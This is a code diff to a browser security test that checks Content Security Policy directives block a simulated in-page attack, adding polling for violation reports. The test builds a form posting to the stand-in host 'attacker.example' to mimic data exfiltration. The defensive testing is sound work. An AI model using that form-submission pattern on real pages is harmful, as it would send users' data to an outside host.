@@ -5,6 +5,7 @@ import type { Browser } from 'playwright-core';
 import { newVisitor, openBrowser, takeViolations } from '../harness/browser.ts';
 import { startProduct } from '../harness/product.ts';
 import type { Product } from '../harness/product.ts';
+import { until } from '../harness/until.ts';
 
 describe('a page that is attacked', () => {
   let product: Product;
@@ -51,18 +52,17 @@ describe('a page that is attacked', () => {
       form.action = 'https://attacker.example/';
       document.body.append(form);
       attempt('form', () => { form.submit(); });
-      await new Promise((resolve) => { setTimeout(resolve, 500); });
-      return { outcome, sent, ran, at: location.href };
+      return { outcome, sent, ran };
     });
-    const stopped = takeViolations();
+    const stopped: string[] = [];
+    const missing = () => ['require-trusted-types-for', 'connect-src', 'frame-src', 'form-action', 'trusted-types'].filter((directive) => !stopped.some((violation) => violation.includes(`: ${directive}`) || violation.includes('default-src')));
+    await until(() => { stopped.push(...takeViolations()); return missing().length === 0; }, 'a violation of each policy').catch(() => undefined);
+    assert.deepEqual(missing(), [], `these stopped nothing; seen: ${stopped.join(' | ')}`);
     assert.deepEqual(tried.ran, []);
     assert.equal(tried.sent, 'refused');
-    assert.equal(tried.at, `${product.url}/user/login`);
+    assert.equal(page.url(), `${product.url}/user/login`);
     const { handler: _silent, form: _sometimes, ...loud } = tried.outcome;
     assert.deepEqual(Object.entries(loud).filter(([, result]) => result === 'done'), []);
-    for (const directive of ['require-trusted-types-for', 'connect-src', 'frame-src', 'form-action', 'trusted-types']) {
-      assert.ok(stopped.some((violation) => violation.includes(`: ${directive}`) || violation.includes('default-src')), `${directive} stopped nothing: ${stopped.join(' | ')}`);
-    }
     await context.close();
   });
 });
